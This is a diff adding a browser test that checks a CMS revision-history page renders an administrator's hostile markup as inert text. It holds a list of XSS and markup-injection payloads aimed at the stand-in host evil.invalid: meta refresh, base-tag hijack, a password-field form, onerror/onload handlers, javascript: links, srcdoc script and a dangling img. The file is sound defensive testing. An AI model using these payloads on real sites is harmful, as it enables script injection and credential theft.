@@ -292,6 +292,57 @@ describe.skipIf(!chromiumFound)('the history page in Chromium', () => {
     expect(await contentOf(id)).toBe('The quick red fox leaps over the sleepy hen.');
   });
 
+  /** Elements of the document that carry an attribute of the hostile markup, or an event handler. */
+  const injectedElements = (page: Page) =>
+    page.evaluate(() =>
+      [...document.querySelectorAll('*')]
+        .filter((el) => [...el.attributes].some((attr) => attr.name.startsWith('on') || /evil\.invalid|javascript:|srcdoc/i.test(`${attr.name}=${attr.value}`)))
+        .map((el) => el.outerHTML.slice(0, 120)),
+    );
+
+  it("shows an administrator's hostile markup as text in every view: nothing of it runs, loads, navigates or clobbers", async () => {
+    const hostile = [
+      '<meta http-equiv="refresh" content="0;url=https://evil.invalid/refresh">',
+      '<base href="https://evil.invalid/base/">',
+      '<form id="sign-out" action="https://evil.invalid/form"><input name="user_pass"><button>Go</button></form>',
+      '<img id="bar-name" src="https://evil.invalid/img.png" onerror="window.__xss = 1">',
+      '<a href="javascript:window.__xss = 1">click</a><style>body { background: url(https://evil.invalid/css.png) }</style>',
+      '<iframe srcdoc="<script>parent.__xss = 1</script>"></iframe><svg onload="window.__xss = 1"></svg><img src="https://evil.invalid/dangling',
+    ].join('');
+    const admin = await app.asRole('administrator');
+    const named = await app.api('POST', '/cms/v2/users/me', { headers: admin.headers, json: { name: '<img src="https://evil.invalid/name.png">Admin' } });
+    expect(named.status).toBe(200);
+    const created = await app.api('POST', '/cms/v2/posts', { headers: admin.headers, json: { title: '<b>Bold</b><img src="https://evil.invalid/title.png">', content: 'Plain words.', status: 'publish' } });
+    const { id } = created.body;
+    for (const content of ['Plain words again.', `${hostile} words.`]) {
+      expect((await app.api('POST', `/cms/v2/posts/${id}`, { headers: admin.headers, json: { content, excerpt: content } })).status).toBe(200);
+    }
+    const [from, to] = (await app.api('GET', `/cms/v2/posts/${id}/revisions`, { headers: admin.headers, query: { order: 'asc', orderby: 'date', _fields: 'id' } })).body.map((revision: { id: number }) => revision.id);
+    const page = await signedIn(admin.username, admin.password);
+    const elsewhere: string[] = [];
+    page.on('request', (request) => {
+      if (!request.url().startsWith(app.siteUrl)) elsewhere.push(request.url());
+    });
+    for (const view of ['source', 'rendered']) {
+      await page.goto(`${app.siteUrl}/cms-admin/?type=posts&id=${id}&from=${from}&to=${to}&view=${view}`);
+      await page.locator('.field-diff[data-field=content] ins').first().waitFor();
+      expect(await page.locator('.field-diff[data-field=content]').innerText()).toContain(view === 'source' ? 'evil.invalid/refresh' : 'click');
+      expect(await injectedElements(page)).toEqual([]);
+    }
+    await page.click('#restore-from');
+    await page.locator('dialog .field-diff[data-field=content]').waitFor();
+    expect(await page.locator('dialog').innerText()).toContain('evil.invalid/refresh');
+    expect(await injectedElements(page)).toEqual([]);
+    await page.keyboard.press('Escape');
+    await page.goto(`${app.siteUrl}/cms-admin/`);
+    await page.getByRole('heading', { name: 'Recent changes' }).waitFor();
+    expect(await injectedElements(page)).toEqual([]);
+
+    expect(elsewhere).toEqual([]);
+    expect(page.url().startsWith(`${app.siteUrl}/cms-admin/`)).toBe(true);
+    expect(await page.evaluate(() => (window as { __xss?: number }).__xss)).toBeUndefined();
+  });
+
   it('shows a contributor neither another author’s draft nor a way to it', async () => {
     const contributor = await app.asRole('contributor');
     const secret = await app.api('POST', '/cms/v2/posts', { headers: app.admin, json: { title: 'Secret plans', content: 'Hidden.', status: 'draft' } });
